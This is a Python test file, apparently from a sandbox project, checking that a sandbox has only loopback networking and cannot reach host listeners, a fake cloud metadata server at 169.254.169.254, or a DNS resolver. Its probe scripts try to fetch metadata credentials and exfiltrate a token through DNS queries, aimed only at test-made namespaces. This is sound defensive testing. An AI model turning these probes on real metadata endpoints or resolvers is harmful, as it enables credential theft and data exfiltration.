"""Category 3, network. With no policy a sandbox has loopback and nothing else: no other
interface, no route; listeners on the host's loopback (the server's port among them) and
the host's abstract Unix sockets are out of reach; raw and packet sockets are refused
(``test_privilege.py``); DNS queries and a fake metadata server in a network namespace of
the test's own get nothing.

No packet is ever sent to a real external, private or link-local address: the sandbox side
only tries after it found no route, and the fake hosts live in namespaces made here.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator

import pytest

from corral.node import SyncNodeSandbox

from ._checks import run_python

ROUTES = """
import json, socket
dev = open("/proc/net/dev").read().splitlines()[2:]
v4 = [l.split() for l in open("/proc/net/route").read().splitlines()[1:] if l.strip()]
try:
    v6 = [l.split() for l in open("/proc/net/ipv6_route").read().splitlines() if l.strip()]
except OSError:
    v6 = []
print(json.dumps({"interfaces": sorted(l.split(":")[0].strip() for l in dev if ":" in l),
                  "if_nameindex": sorted(n for _, n in socket.if_nameindex()),
                  "v4_routes": v4, "v6_devices": sorted({r[-1] for r in v6})}))
"""

# Connects to everything it is given; tries fake hosts only when it has no route.
REACH = """
import json, socket, sys
spec = json.loads(sys.argv[1])
v4 = [l for l in open("/proc/net/route").read().splitlines()[1:] if l.strip()]
out = {"routed": bool(v4)}
for name, family, addr in spec["tcp"]:
    if family == "unix" or not out["routed"] or addr[0].startswith(("127.", "::1")):
        fam = {"inet": socket.AF_INET, "inet6": socket.AF_INET6, "unix": socket.AF_UNIX}[family]
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(3)
        try:
            s.connect(tuple(addr) if family != "unix" else "\\0" + addr)
            out[name] = "connected"
        except OSError as exc:
            out[name] = type(exc).__name__ + ":" + str(exc.errno)
        finally:
            s.close()
for name, addr in spec["udp"]:
    if not out["routed"] or addr[0].startswith("127."):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(spec["query"].encode(), tuple(addr))
            out[name] = "sent"
        except OSError as exc:
            out[name] = type(exc).__name__ + ":" + str(exc.errno)
        s.close()
try:
    socket.getaddrinfo(spec["name"], 80)
    out["resolve"] = "resolved"
except OSError as exc:
    out["resolve"] = type(exc).__name__
print(json.dumps(out))
"""

# A fake metadata server and DNS resolver at 169.254.169.254, on the loopback of a network
# namespace made by the test; prints every request it gets.
FAKE_HOST = """
import socket, sys, threading
tcp = socket.socket(); tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
tcp.bind(("169.254.169.254", 80)); tcp.listen(8)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(("169.254.169.254", 53))
def dns():
    while True:
        data, _ = udp.recvfrom(4096); print("dns", data.decode(errors="replace"), flush=True)
threading.Thread(target=dns, daemon=True).start()
print("ready", flush=True)
while True:
    conn, _ = tcp.accept(); print("http", conn.recv(4096)[:60], flush=True)
    conn.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\niam-role-secret"); conn.close()
"""


def test_only_loopback_and_no_route(attacker: SyncNodeSandbox) -> None:
    seen = run_python(attacker, ROUTES)
    assert seen["interfaces"] == ["lo"], seen
    assert seen["if_nameindex"] == ["lo"], seen
    assert seen["v4_routes"] == [], seen
    assert set(seen["v6_devices"]) <= {"lo"}, seen


@contextlib.contextmanager
def _host_listeners() -> Iterator[dict[str, object]]:
    """TCP on the host's 127.0.0.1 and ::1 (as `corral serve` listens), UDP on 127.0.0.1,
    and an abstract Unix socket (abstract names belong to a network namespace)."""
    tcp4 = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp4.bind(("127.0.0.1", 0))
    tcp6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    tcp6.bind(("::1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    abstract = f"corral-sec-{uuid.uuid4().hex}"
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0" + abstract)
    for s in (tcp4, tcp6, unix):
        s.listen(8)
        s.setblocking(False)
    udp.setblocking(False)
    try:
        yield {"tcp4": tcp4, "tcp6": tcp6, "udp": udp, "unix": unix, "abstract": abstract}
    finally:
        for s in (tcp4, tcp6, udp, unix):
            s.close()


def test_host_loopback_listeners_are_unreachable(attacker: SyncNodeSandbox) -> None:
    with _host_listeners() as host:
        tcp4, tcp6, udp = host["tcp4"], host["tcp6"], host["udp"]
        assert isinstance(tcp4, socket.socket) and isinstance(tcp6, socket.socket)
        assert isinstance(udp, socket.socket)
        spec = {"tcp": [["tcp4", "inet", ["127.0.0.1", tcp4.getsockname()[1]]],
                        ["tcp6", "inet6", ["::1", tcp6.getsockname()[1]]],
                        ["unix", "unix", host["abstract"]]],
                "udp": [["udp", ["127.0.0.1", udp.getsockname()[1]]]],
                "query": "exfil", "name": "localhost.corral-test.invalid"}
        out = run_python(attacker, REACH, json.dumps(spec))
        for name in ("tcp4", "tcp6", "unix"):
            assert out[name] != "connected", out
        for s in (tcp4, tcp6, host["unix"]):
            assert isinstance(s, socket.socket)
            with pytest.raises(BlockingIOError):
                s.accept()
        with pytest.raises(BlockingIOError):
            udp.recvfrom(100)  # the datagram went to the sandbox's own loopback


@pytest.fixture(scope="module")
def fake_metadata() -> Iterator[tuple[str, subprocess.Popen[str]]]:
    """169.254.169.254 (HTTP on 80, DNS on 53) in a network namespace made for the test."""
    ns = f"corral-meta-{uuid.uuid4().hex[:8]}"
    subprocess.run(["ip", "netns", "add", ns], check=True)
    server = None
    try:
        ip = ["ip", "netns", "exec", ns, "ip"]
        subprocess.run([*ip, "link", "set", "lo", "up"], check=True)
        subprocess.run([*ip, "addr", "add", "169.254.169.254/32", "dev", "lo"], check=True)
        server = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-u", "-c",
                                   FAKE_HOST], stdout=subprocess.PIPE, text=True)
        assert server.stdout is not None and server.stdout.readline().strip() == "ready"
        yield ns, server
    finally:
        if server is not None:
            server.kill()
            server.wait()
        subprocess.run(["ip", "netns", "del", ns], check=False)


def test_metadata_server_and_dns_exfiltration_get_nothing(
        attacker: SyncNodeSandbox, fake_metadata: tuple[str, subprocess.Popen[str]]) -> None:
    ns, server = fake_metadata
    token = uuid.uuid4().hex
    spec = {"tcp": [["metadata", "inet", ["169.254.169.254", 80]]],
            "udp": [["dns_fake", ["169.254.169.254", 53]], ["dns_default", ["127.0.0.1", 53]]],
            "query": f"{token}.exfil.corral-test.invalid",
            "name": f"{token}.exfil.corral-test.invalid"}
    # The control: from inside the fake host's namespace, the same program gets through.
    control = subprocess.run(["ip", "netns", "exec", ns, sys.executable, "-c", REACH,
                              json.dumps(spec)], capture_output=True, text=True, timeout=60)
    assert json.loads(control.stdout)["metadata"] == "connected", control.stderr
    out = run_python(attacker, REACH, json.dumps(spec))
    assert out["routed"] is False, out
    assert out["metadata"] != "connected" and out["resolve"] != "resolved", out
    assert out["dns_default"] == "sent"  # to its own loopback, where nothing listens
    # The fake host heard the control's query and request, and nothing from the sandbox.
    os.set_blocking(server.stdout.fileno(), False)  # type: ignore[union-attr]
    heard = (server.stdout.read() or "") if server.stdout else ""
    assert heard.count(token) == 1 and heard.count("http") == 1, heard
